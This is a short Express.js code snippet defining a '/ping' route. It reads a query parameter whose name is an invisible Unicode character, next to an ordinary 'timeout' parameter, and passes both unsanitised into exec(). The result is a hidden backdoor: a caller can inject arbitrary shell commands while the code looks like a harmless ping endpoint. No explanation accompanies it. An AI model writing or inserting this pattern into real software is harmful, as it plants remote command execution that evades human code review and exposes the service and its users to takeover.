app.get('/ping', (req, res) => {
  const { timeout, ㅤ } = req.query;
  exec(['ping', timeout, ㅤ].join(' '));
});
